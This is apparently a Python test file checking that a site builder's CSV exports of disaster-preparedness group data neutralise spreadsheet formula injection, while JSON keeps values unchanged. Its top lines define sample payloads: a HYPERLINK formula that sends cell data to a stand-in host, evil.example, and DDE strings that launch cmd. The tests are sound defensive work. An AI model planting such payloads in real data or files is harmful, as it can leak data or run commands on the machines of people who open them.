"""Hostile content in the files partners open: a formula typed into a KSB's name, need or address reaches no
spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import KSB_SOURCE, TODAY, write

# Each a formula Excel or LibreOffice would evaluate if the cell started with it (OWASP "CSV Injection").
NAME = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
NEED = "-1+cmd|'/C calc'!A0"
ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
POINT = "+1+cmd|'/C calc'!A0"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from conftest import GOLDEN_CONTENT, make_project
    from siaga.build import build

    project = make_project(tmp_path_factory.mktemp("hostile") / "proyek", GOLDEN_CONTENT)
    write(project, "ksb/kab-lebak/rumus.yml", f"""\
nama: '{NAME.replace("'", "''")}'
kecamatan: Bayah
{KSB_SOURCE}
posko:
  alamat: "{ADDRESS.replace('"', '""')}"
  telepon: 0812-0000-0404
titik_kumpul:
  - nama: "{POINT}"
kebutuhan:
  - barang: "{NEED}"
""")
    build(project, strict=True, today=TODAY)
    return project


@pytest.mark.parametrize("name", ["data/ksb.csv", "data/ksb-hxl.csv"])
def test_no_csv_cell_starts_a_formula(hostile_site, name):
    rows = list(csv.reader(io.StringIO((hostile_site.site / name).read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    row = next(dict(zip(header, r, strict=True)) for r in body if "HYPERLINK" in "".join(r))
    # The text is all there, readable as text: a leading apostrophe, which a spreadsheet does not show.
    assert row["nama"] == "'" + NAME
    assert row["posko_alamat"] == "'" + ADDRESS
    assert row["kebutuhan"] == "'" + NEED
    assert row["titik_kumpul"] == "'" + POINT
    assert row["posko_telepon"] == "'+6281200000404"  # kept as text, not 6.28E+12
    assert row["posko_telepon_lokal"] == "0812-0000-0404"


def test_json_and_geojson_keep_the_values_as_typed(hostile_site):
    """Only CSV, which spreadsheets open, carries the apostrophe: code reading JSON gets the value itself."""
    rows = json.loads((hostile_site.site / "data/ksb.json").read_text(encoding="utf-8"))
    rows = rows if isinstance(rows, list) else next(v for v in rows.values() if isinstance(v, list))
    row = next(r for r in rows if r["nama"] == NAME)
    assert row["posko_telepon"] == "+6281200000404"
    assert row["kebutuhan"] == [NEED]


def test_the_data_dictionary_says_how_csv_cells_are_neutralised(hostile_site):
    from conftest import page

    text = page(hostile_site, "/data/").get_text(" ")
    assert "petik tunggal" in text and "rumus" in text
